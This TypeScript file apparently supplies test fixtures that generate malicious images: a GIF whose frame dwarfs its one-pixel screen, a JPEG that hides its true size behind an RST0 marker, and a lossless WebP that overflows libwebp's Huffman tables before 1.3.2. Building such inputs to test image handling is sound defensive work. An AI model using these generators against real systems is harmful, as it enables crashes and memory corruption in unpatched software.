const uint16 = (value: number): number[] => [value & 255, value >> 8];
const uint16BE = (value: number): number[] => [value >> 8, value & 255];

/** A GIF of 35 bytes: a screen of one pixel, and a frame that is much larger. */
export function hugeFrameGif(side: number): Buffer {
  const screen = [...Buffer.from('GIF89a'), ...uint16(1), ...uint16(1), 0x80, 0, 0];
  const colors = [0, 0, 0, 255, 255, 255];
  const frame = [0x2c, ...uint16(0), ...uint16(0), ...uint16(side), ...uint16(side), 0];
  return Buffer.from([...screen, ...colors, ...frame, 2, 2, 0x44, 0x01, 0, 0x3b]);
}

function segment(marker: number, data: readonly number[]): number[] {
  return [0xff, marker, ...uint16BE(data.length + 2), ...data];
}

/**
 * A gray JPEG of `side` × `side` pixels that readers take for 16 × 16 when they believe that every marker has a length:
 * RST0 has none, so they skip the real frame and find another in a comment.
 */
export function lyingJpeg(side: number): Buffer {
  const frame = (size: number): number[] =>
    segment(0xc0, [8, ...uint16BE(size), ...uint16BE(size), 1, 1, 0x11, 0]);
  const oneCode = (kind: number): number[] => segment(0xc4, [kind, 1, ...Array<number>(15).fill(0), 0]);
  const tables = [...segment(0xdb, [0, ...Array<number>(64).fill(1)]), ...oneCode(0x00), ...oneCode(0x10)];
  const head = [0xff, 0xd8, 0xff, 0xd0, ...frame(side), ...tables];
  // What is taken for the length of RST0 is the marker behind it.
  const lie = 4 + 0xffc0;
  const comment = Buffer.alloc(0xffff - 2);
  comment.set(frame(16), lie - (head.length + 4));
  const scan = segment(0xda, [1, 1, 0x00, 0, 63, 0]);
  return Buffer.from([...head, 0xff, 0xfe, 0xff, 0xff, ...comment, ...scan, 0, 0, 0, 0xff, 0xd9]);
}

/** How many codes of each length its five Huffman tables have: complete ones, but for the last. */
const CODE_LENGTHS = [
  [0, 1, 1, 0, 0, 0, 0, 0, 0, 3, 229, 41, 1, 1, 1, 2],
  ...Array.from({ length: 3 }, () => [0, 1, 1, 0, 0, 0, 0, 0, 0, 7, 241, 1, 1, 1, 1, 2]),
  [0, 1, 1, 1, 1, 1, 0, 0, 0, 11, 5, 1, 10, 4, 2, 2],
];
const ALPHABETS = [280, 256, 256, 256, 40];

/** A lossless WebP whose Huffman tables need more room than libwebp before 1.3.2 had for them. */
export function hugeCodesWebp(): Buffer {
  const bits: number[] = [];
  const put = (value: number, count: number): void => {
    for (let bit = 0; bit < count; bit++) bits.push((value >> bit) & 1);
  };
  put(0x2f, 8);
  for (const [value, count] of [
    [0, 14],
    [0, 14],
    [0, 1],
    [0, 3],
    [0, 1],
    [0, 1],
    [0, 1],
  ] as const) {
    put(value, count);
  }
  for (const [table, counts] of CODE_LENGTHS.entries()) {
    put(0, 1);
    put(15, 4);
    // Each code length has a code of four bits of its own, in the order in which the format lists them.
    for (const symbol of [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15]) {
      put(symbol > 15 ? 0 : 4, 3);
    }
    put(0, 1);
    const lengths = counts.flatMap((count, length) => Array<number>(count).fill(length));
    while (lengths.length < ALPHABETS[table]!) lengths.push(0);
    for (const length of lengths) put(reversed(length), 4);
  }
  put(0, 4096);
  const body = Buffer.alloc(Math.ceil(bits.length / 16) * 2);
  for (const [index, bit] of bits.entries()) body[index >> 3]! |= bit << (index & 7);
  const header = Buffer.from('RIFF____WEBPVP8L____', 'latin1');
  header.writeUInt32LE(header.length + body.length - 8, 4);
  header.writeUInt32LE(body.length, 16);
  return Buffer.concat([header, body]);
}

function reversed(value: number): number {
  return ((value & 1) << 3) | ((value & 2) << 1) | ((value & 4) >> 1) | ((value & 8) >> 3);
}
